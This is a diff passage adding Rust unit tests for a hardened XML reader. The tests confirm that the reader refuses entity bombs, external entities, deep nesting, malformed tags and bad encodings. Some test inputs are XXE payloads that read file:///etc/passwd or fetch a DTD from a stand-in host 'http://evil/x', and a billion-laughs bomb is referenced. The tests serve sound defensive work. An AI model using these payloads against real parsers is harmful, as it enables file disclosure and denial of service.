+    fn hardened_billion_laughs_is_refused_under_either_doctype_policy() {
+        let e = refusal(BILLION_LAUGHS, DocTypePolicy::Refuse);
+        assert!(matches!(e.kind, XmlErrorKind::DocType), "{e}");
+        assert_eq!(e.offset, 22, "the DOCTYPE starts after the declaration and its newline");
+        let e = refusal(BILLION_LAUGHS, DocTypePolicy::AllowWithoutEntities);
+        assert!(matches!(e.kind, XmlErrorKind::EntityDeclaration), "{e}");
+        // Without its DOCTYPE the bomb is only an undeclared entity.
+        let e = refusal("<lolz>&lol3;</lolz>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::UndeclaredEntity(n) if n == "lol3"), "{e}");
+        assert_eq!(e.offset, 6);
+    }
+
+    #[test]
+    fn hardened_external_entities_are_refused() {
+        for xxe in [
+            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
+            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil/x\"> %p;]><a/>",
+            "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\" [ %p; ]><a/>",
+        ] {
+            assert!(matches!(refusal(xxe, DocTypePolicy::Refuse).kind, XmlErrorKind::DocType), "{xxe}");
+            let e = refusal(xxe, DocTypePolicy::AllowWithoutEntities);
+            assert!(matches!(e.kind, XmlErrorKind::EntityDeclaration), "{xxe}: {e}");
+        }
+    }
+
+    #[test]
+    fn hardened_undeclared_entities_and_bad_character_references_are_refused() {
+        let e = refusal("<a>x&nbsp;y</a>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::UndeclaredEntity(n) if n == "nbsp"), "{e}");
+        assert_eq!(
+            e.to_string(),
+            "the entity `&nbsp;` is not declared; only `&amp;`, `&lt;`, `&gt;`, `&quot;`, `&apos;` and \
+             character references are read at byte 4"
+        );
+        let e = refusal("<a x='1&e;'/>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::UndeclaredEntity(n) if n == "e"), "in an attribute: {e}");
+        for bad in ["<a>&#0;</a>", "<a>&#1;</a>", "<a>&#xFFFE;</a>", "<a>&#X41;</a>", "<a>&#+65;</a>", "<a x='&#0;'/>"]
+        {
+            assert!(matches!(refusal(bad, DocTypePolicy::Refuse).kind, XmlErrorKind::InvalidCharRef(_)), "{bad}");
+        }
+        assert!(matches!(refusal("<a x='a & b;'/>", DocTypePolicy::Refuse).kind, XmlErrorKind::UndeclaredEntity(_)));
+        assert!(
+            matches!(refusal("<a x='a &amp'/>", DocTypePolicy::Refuse).kind, XmlErrorKind::Syntax(_)),
+            "unterminated"
+        );
+        let ok = "<a x='&lt;&#233;&#x1F600;'>&amp;&lt;&gt;&quot;&apos;&#9;&#xE9;</a>";
+        assert!(harden(ok.as_bytes(), DocTypePolicy::Refuse).is_ok());
+    }
+
+    #[test]
+    fn hardened_doctype_is_refused_unless_the_policy_allows_one_before_the_root() {
+        let dtd = "<!DOCTYPE a SYSTEM \"a.dtd\" [ <!ELEMENT a EMPTY> ]><a/>";
+        assert!(matches!(refusal(dtd, DocTypePolicy::Refuse).kind, XmlErrorKind::DocType));
+        assert!(harden(dtd.as_bytes(), DocTypePolicy::AllowWithoutEntities).is_ok());
+        for twice in ["<!DOCTYPE a><!DOCTYPE a><a/>", "<a/><!DOCTYPE a>"] {
+            let e = refusal(twice, DocTypePolicy::AllowWithoutEntities);
+            assert!(matches!(e.kind, XmlErrorKind::DocType), "{twice}: {e}");
+        }
+    }
+
+    #[test]
+    fn hardened_depth_bomb_is_refused_at_max_depth() {
+        let nest = |n: usize| format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
+        assert!(harden(nest(MAX_DEPTH).as_bytes(), DocTypePolicy::Refuse).is_ok());
+        let e = refusal(&nest(MAX_DEPTH + 1), DocTypePolicy::Refuse);
+        assert!(matches!(e.kind, XmlErrorKind::TooDeep(MAX_DEPTH)), "{e}");
+        assert_eq!(e.offset, 3 * MAX_DEPTH as u64);
+        let empty_too = format!("{}<b/>{}", "<a>".repeat(MAX_DEPTH), "</a>".repeat(MAX_DEPTH));
+        assert!(matches!(refusal(&empty_too, DocTypePolicy::Refuse).kind, XmlErrorKind::TooDeep(_)));
+        // A million levels are refused at the first one too many, without recursion.
+        let bomb = "<a>".repeat(1_000_000);
+        assert!(matches!(refusal(&bomb, DocTypePolicy::Refuse).kind, XmlErrorKind::TooDeep(_)));
+    }
+
+    #[test]
+    fn hardened_two_roots_are_refused() {
+        for two in ["<a/><b/>", "<a></a><a></a>", "<a/>\n<!-- x -->\n<b>t</b>"] {
+            assert!(matches!(refusal(two, DocTypePolicy::Refuse).kind, XmlErrorKind::SecondRoot), "{two}");
+        }
+        assert_eq!(refusal("<a/><b/>", DocTypePolicy::Refuse).offset, 4);
+        assert!(matches!(refusal("", DocTypePolicy::Refuse).kind, XmlErrorKind::NoRoot));
+        assert!(matches!(refusal("<?xml version='1.0'?><!-- -->", DocTypePolicy::Refuse).kind, XmlErrorKind::NoRoot));
+    }
+
+    #[test]
+    fn hardened_text_after_the_root_is_refused_but_whitespace_comments_and_pis_are_not() {
+        for (after, what) in [("x", "text"), ("&amp;", "an entity reference"), ("<![CDATA[x]]>", "CDATA")] {
+            let e = refusal(&format!("<a/>{after}"), DocTypePolicy::Refuse);
+            assert!(matches!(e.kind, XmlErrorKind::OutsideRoot(w) if w == what), "{after}: {e}");
+            assert_eq!(e.offset, 4);
+        }
+        assert!(matches!(refusal("text<a/>", DocTypePolicy::Refuse).kind, XmlErrorKind::OutsideRoot("text")));
+        // Only XML whitespace: a no-break space after the root is text.
+        assert!(matches!(refusal("<a/>\u{a0}", DocTypePolicy::Refuse).kind, XmlErrorKind::OutsideRoot("text")));
+        assert!(harden(b"<a/> \r\n\t<!-- c --><?pi x?>\n", DocTypePolicy::Refuse).is_ok());
+    }
+
+    #[test]
+    fn hardened_mismatched_and_unclosed_tags_are_refused() {
+        let e = refusal("<a>\n  <b>\n</a>", DocTypePolicy::Refuse);
+        assert!(matches!(e.kind, XmlErrorKind::Syntax(_)), "{e}");
+        assert!(e.to_string().starts_with("not well-formed at byte "), "{e}");
+        assert!(std::error::Error::source(&e).is_some(), "the quick-xml cause is kept");
+        let e = refusal("<a><b>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::Unclosed(n) if n == "b"), "{e}");
+        assert_eq!(e.to_string(), "`<b>` is never closed at byte 6");
+        for bad in
+            ["</a>", "<a x='1' x='2'/>", "<a x/>", "<1a/>", "<a 1x='1'/>", "<a><!-- x -- y --></a>", "<a>x &</a>"]
+        {
+            assert!(harden(bad.as_bytes(), DocTypePolicy::Refuse).is_err(), "{bad}");
+        }
+    }
+
+    #[test]
+    fn hardened_bad_utf8_and_unknown_encodings_are_refused() {
+        let e = harden(b"<a>ok\xff</a>", DocTypePolicy::Refuse).expect_err("bad UTF-8");
+        assert!(matches!(e.kind, XmlErrorKind::InvalidUtf8) && e.offset == 5, "{e}");
+        let e = harden(b"\xEF\xBB\xBF<a>\xc3</a>", DocTypePolicy::Refuse).expect_err("bad UTF-8 after a BOM");
+        assert_eq!(e.offset, 6, "offsets count the byte-order mark");
+        for bad in [&b"\xff\xfe<\0a\0/\0>\0"[..], b"<?xml version='1.0' encoding='Shift_JIS'?><a/>"] {
+            let e = harden(bad, DocTypePolicy::Refuse).expect_err("encoding");
+            assert!(matches!(e.kind, XmlErrorKind::Encoding(_)), "{e}");
+        }
+        let latin1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a t='M\xfcnchen'>K\xf6ln</a>";
+        assert!(harden(latin1, DocTypePolicy::Refuse).is_ok());
+        let mut reader = Hardened::new(b"\xEF\xBB\xBF<a/>", DocTypePolicy::Refuse).expect("a BOM is fine");
+        assert!(matches!(reader.next(), Ok(Token::Empty(_))));
+        assert_eq!(reader.position(), 7, "positions count the byte-order mark");
+    }
+
+    #[test]
+    fn doc_refuses_a_doctype_and_an_entity_bomb_through_the_hardened_reader() {
+        let e = Doc::parse(BILLION_LAUGHS.as_bytes(), DocTypePolicy::Refuse).expect_err("DOCTYPE");
+        assert_eq!(e.to_string(), "upstream document has a DOCTYPE; only WMS 1.1.1 may carry one");
+        let e = Doc::parse(BILLION_LAUGHS.as_bytes(), DocTypePolicy::AllowWithoutEntities).expect_err("entities");
+        assert_eq!(e.to_string(), "upstream document declares entities in its DOCTYPE");
+        let e = Doc::parse(b"<lolz>&lol3;</lolz>", DocTypePolicy::Refuse).expect_err("undeclared");
+        assert_eq!(e.to_string(), "upstream document uses the undeclared entity `&lol3;`");
+    }
+
+    #[test]
+    fn capabilities_with_a_control_character_reference_or_a_no_break_space_after_the_root_are_refused() {
+        // Both passed before the readers were unified.
+        assert!(Doc::parse(b"<a>&#1;</a>", DocTypePolicy::Refuse).is_err());
+        assert!(Doc::parse("<a/>\u{a0}".as_bytes(), DocTypePolicy::Refuse).is_err());
     }
 
     #[test]
